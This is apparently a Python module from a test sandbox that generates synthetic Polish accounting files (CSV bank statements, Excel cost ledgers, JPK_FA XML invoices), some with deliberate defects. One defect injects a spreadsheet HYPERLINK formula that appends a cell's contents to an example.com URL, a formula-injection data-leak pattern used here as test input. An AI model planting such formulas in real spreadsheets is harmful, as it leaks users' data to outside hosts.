"""What the accounting office and the bank drop into a folder: statements (CSV in CP1250), costs (Excel), JPK_FA(4).

JPK_FA(4): http://jpk.mf.gov.pl/wzor/2022/02/17/02171/, order of elements as in the Ministry's schema. The same folder
can be read as a bucket of an S3-compatible store (s3_bucket.py) below /accounting.
"""

from __future__ import annotations

import csv
import os
import random
from collections import defaultdict
from datetime import date, timedelta
from decimal import Decimal
from functools import lru_cache
from io import BytesIO, StringIO
from xml.sax.saxutils import escape

import openpyxl

from sandbox.files import s3_bucket
from sandbox.files.dropped_files import Batch, Dropped, batches, bring_up
from sandbox.stand_in import StandIn
from sandbox.white_list.api import bank_account
from sandbox.world import Book, Entry, World, business, identifiers
from sandbox.world.company import Company, make_company
from sandbox.world.spelling import abbreviated

ACCESS_KEY, SECRET_KEY = "ONEFOLDSANDBOX", "sandbox-secret"
STATEMENT = 40  # payments in one bank statement, by their numbers
LINES = int(os.environ.get("SANDBOX_ACCOUNTING_PAGE", "500"))  # entries in one workbook, invoices in one JPK file
ACCOUNTS = ("401-01", "402-01", "402-02", "409-10", "411-01")
COSTS = ("Energia elektryczna", "Usługi telekomunikacyjne", "Paliwo", "Materiały biurowe", "Czynsz", "Usługi prawne")
JPK = "http://jpk.mf.gov.pl/wzor/2022/02/17/02171/"
ETD = "http://crd.gov.pl/xml/schematy/dziedzinowe/mf/2018/08/24/eD/DefinicjeTypy/"
BANK_COLUMNS = (
    "nr_wyciagu", "lp", "data_ksiegowania", "kwota", "waluta", "kontrahent", "rachunek", "tytul", "opis",
)  # fmt: skip
COST_COLUMNS = (
    "nr_dowodu", "data", "konto", "mpk", "nip_dostawcy", "dostawca", "opis", "netto", "vat", "brutto", "waluta",
)  # fmt: skip


def _paid_to_the_bank(seed: int, number: int, companies: int) -> bool:
    return business.payment(seed, number, companies=companies) is not None


BANK = Book(
    "accounting", "bank_line",
    size=lambda companies: business.orders(companies) * 3 // 4,
    number=lambda place: place // 3 * 4 + place % 3,
    key=lambda n: (f"WB/{n // STATEMENT + 1:05d}", str(n % STATEMENT + 1)),
    exists=_paid_to_the_bank,
    broken=("amount_malformed", "currency_malformed", "date_impossible"), deletes=False,
)  # fmt: skip
COST = Book(
    "accounting", "account_entry", size=lambda companies: min(business.orders(companies) // 2, 5_000),
    key=lambda n: f"KP/{n + 1:06d}", broken=("formula_in_text", "account_malformed", "amount_missing"), deletes=False,
)  # fmt: skip
INVOICE = Book(
    "accounting", "jpk_invoice", size=business.orders, key=str,
    named=lambda seed, n, companies: business.invoice(seed, n, companies=companies).reference,
    broken=("currency_malformed", "type_unknown"), changes=False, deletes=False,
)  # fmt: skip


@lru_cache(65536)
def _company(seed: int, number: int) -> Company:
    """The company as it was at first: what was once booked does not change its name."""
    return make_company(seed, number)


def _files(world: World) -> list[Dropped]:
    files = [_statement(world, each) for each in batches(world, BANK.name, lambda entry, _: entry.number // STATEMENT)]
    files += [_workbook(world, each) for each in batches(world, COST.name, lambda _, place: place // LINES)]
    files += [_jpk(world, each) for each in batches(world, INVOICE.name, lambda _, place: place // LINES)]
    return files


def _statement(world: World, batch: Batch) -> Dropped:
    def content() -> bytes:
        text = StringIO()
        writer = csv.writer(text, delimiter=";", lineterminator="\r\n")
        writer.writerow(BANK_COLUMNS)
        writer.writerows(_line(world, entry, batch.sequence) for entry in batch.entries)
        return text.getvalue().encode("cp1250", errors="replace")

    return Dropped(f"wyciagi/WB_{batch.number + 1:05d}{batch.suffix}.csv", batch.modified, content)


def _line(world: World, entry: Entry, sequence: int) -> tuple[str, ...]:
    payment = business.payment(world.seed, entry.number, companies=world.base_size)
    state = entry.at(sequence)
    if payment is None or state is None:
        raise ValueError(f"payment {entry.number} does not exist")
    revision, payer = state[2], payment.invoice.order.company
    name = abbreviated(_company(world.seed, payer).name, random.Random(entry.number).random()).upper()
    amount = f"{payment.amount:,.2f}".replace(",", "\u00a0" if entry.number % 2 else " ").replace(".", ",")
    statement, place = entry.key
    return (
        str(statement),
        str(place),
        "31.02.2026" if entry.broken == "date_impossible" else f"{payment.day:%d.%m.%Y}",
        f"{amount[:-1]}O" if entry.broken == "amount_malformed" else amount,
        "zł" if entry.broken == "currency_malformed" else payment.invoice.order.currency,
        name,
        bank_account(world.seed, payer, 0),
        payment.invoice.reference,
        "PRZELEW PRZYCHODZĄCY" + (f", KOREKTA {revision - 1}" if revision > 1 else ""),
    )


def _workbook(world: World, batch: Batch) -> Dropped:
    def content() -> bytes:
        book, file = openpyxl.Workbook(write_only=True), BytesIO()
        sheet = book.create_sheet("Koszty")
        sheet.append(COST_COLUMNS)
        for entry in batch.entries:
            sheet.append(_cost(world, entry, batch.sequence))
        book.save(file)
        return file.getvalue()

    return Dropped(f"ksiegi/koszty_{batch.number + 1:04d}{batch.suffix}.xlsx", batch.modified, content)


def _cost(world: World, entry: Entry, sequence: int) -> tuple[str | date | float, ...]:
    state = entry.at(sequence)
    revision = state[2] if state else 1
    rng = random.Random(f"{world.seed}:cost:{entry.number}")
    supplier = rng.randrange(min(world.base_size, max(60, world.base_size // 6)))  # the ERP's suppliers
    net = Decimal(rng.randrange(2_000, 900_000)) / 100 + revision - 1
    vat = (net * 23 / 100).quantize(business.CENT)
    what = rng.choice(COSTS)
    return (
        str(entry.key),
        business.FIRST_DAY + timedelta(days=rng.randrange((business.LAST_DAY - business.FIRST_DAY).days)),
        "koszty" if entry.broken == "account_malformed" else rng.choice(ACCOUNTS),
        rng.choice(business.DEPARTMENTS),
        identifiers.nip(supplier),
        _company(world.seed, supplier).name,
        f'=HYPERLINK("http://example.com/?"&A2;"{what}")' if entry.broken == "formula_in_text" else what,
        float(net),
        float(vat),
        "" if entry.broken == "amount_missing" else float(net + vat),
        "PLN",
    )


def _jpk(world: World, batch: Batch) -> Dropped:
    def content() -> bytes:
        invoices = [business.invoice(world.seed, entry.number, companies=world.base_size) for entry in batch.entries]
        issued = [invoice.issued for invoice in invoices]
        rows = [_invoice(world, entry, each) for entry, each in zip(batch.entries, invoices, strict=True)]
        lines = [(invoice.reference, line) for invoice in invoices for line in invoice.order.lines]
        text = "".join(
            (
                (
                    f'<?xml version="1.0" encoding="UTF-8"?>\n<JPK xmlns="{JPK}" xmlns:etd="{ETD}">\n<Naglowek>'
                    '<KodFormularza kodSystemowy="JPK_FA (4)" wersjaSchemy="1-0">JPK_FA</KodFormularza>'
                    "<WariantFormularza>4</WariantFormularza><CelZlozenia>1</CelZlozenia>"
                ),
                _all(DataWytworzeniaJPK=f"{batch.modified:%Y-%m-%dT%H:%M:%SZ}", DataOd=min(issued), DataDo=max(issued)),
                "<KodUrzedu>1471</KodUrzedu></Naglowek>\n<Podmiot1><IdentyfikatorPodmiotu>",
                _all(NIP=business.OUR_NIP, PelnaNazwa=business.OUR_NAME),
                (
                    "</IdentyfikatorPodmiotu><AdresPodmiotu><etd:KodKraju>PL</etd:KodKraju>"
                    "<etd:Wojewodztwo>mazowieckie</etd:Wojewodztwo><etd:Powiat>Warszawa</etd:Powiat>"
                    "<etd:Gmina>Warszawa</etd:Gmina><etd:NrDomu>1</etd:NrDomu><etd:Miejscowosc>Warszawa</etd:Miejscowosc>"
                    "<etd:KodPocztowy>00-001</etd:KodPocztowy></AdresPodmiotu></Podmiot1>\n"
                ),
                *rows,
                "<FakturaCtrl>",
                _all(LiczbaFaktur=len(rows), WartoscFaktur=sum((each.order.gross for each in invoices), Decimal(0))),
                "</FakturaCtrl>\n",
                *(_jpk_line(world.seed, reference, line) for reference, line in lines),
                "<FakturaWierszCtrl>",
                _all(LiczbaWierszyFaktur=len(lines), WartoscWierszyFaktur=sum((ln.net for _, ln in lines), Decimal(0))),
                "</FakturaWierszCtrl>\n</JPK>\n",
            )
        )
        return text.encode()

    return Dropped(f"jpk/JPK_FA_{batch.number + 1:04d}{batch.suffix}.xml", batch.modified, content)


def _invoice(world: World, entry: Entry, invoice: business.Invoice) -> str:
    order, buyer = invoice.order, _company(world.seed, invoice.order.company)
    net, vat = defaultdict[int, Decimal](Decimal), defaultdict[int, Decimal](Decimal)
    for line in order.lines:
        net[int(line.vat_rate)] += line.net
        vat[int(line.vat_rate)] += line.vat
    rates: dict[str, object] = {}
    for place, rate in enumerate((23, 8, 5), start=1):
        if rate in net:
            rates |= {f"P_13_{place}": net[rate], f"P_14_{place}": vat[rate]}
    flags = dict.fromkeys(("P_16", "P_17", "P_18", "P_18A", "P_19", "P_20", "P_21", "P_22", "P_23"), "false")
    inner = _all(
        KodWaluty="zł" if entry.broken == "currency_malformed" else order.currency,
        P_1=invoice.issued,
        P_2A=invoice.reference,
        P_3A=buyer.name,
        P_3B=f"{buyer.postal_code} {buyer.city}, {buyer.street} {buyer.house_no}",
        P_3C=business.OUR_NAME,
        P_3D="00-001 Warszawa 1",
        P_4B=business.OUR_NIP,
        P_5B=buyer.nip,
        P_6=order.day,
        **rates,
        P_15=order.gross,
        **flags,
        P_106E_2="false",
        P_106E_3="false",
        RodzajFaktury="FAKTURA?" if entry.broken == "type_unknown" else "VAT",
    )
    return f"<Faktura>{inner}</Faktura>\n"


def _jpk_line(seed: int, reference: str, line: business.Line) -> str:
    goods = business.product(seed, line.product)
    inner = _all(
        P_2B=reference,
        P_7=goods.name,
        P_8A=goods.unit,
        P_8B=line.quantity,
        P_9A=line.net_price,
        P_11=line.net,
        P_12=int(line.vat_rate),
    )
    return f"<FakturaWiersz>{inner}</FakturaWiersz>\n"


def _all(**elements: object) -> str:
    return "".join(f"<{name}>{escape(str(value))}</{name}>" for name, value in elements.items())


def refresh(world: World) -> None:
    """Bring the folder up to the world; a world that is not on disk has none."""
    if world.home:
        bring_up(world.home / "accounting", world, _files(world))


STAND_IN = StandIn(
    "accounting",
    lambda world: s3_bucket.routes(world.home and world.home / "accounting", ACCESS_KEY, SECRET_KEY),
    sign_in=(ACCESS_KEY, SECRET_KEY),
    extra={"settled_seconds": "0"},
    books=(BANK, COST, INVOICE),
    folder=True,
    refresh=refresh,
)
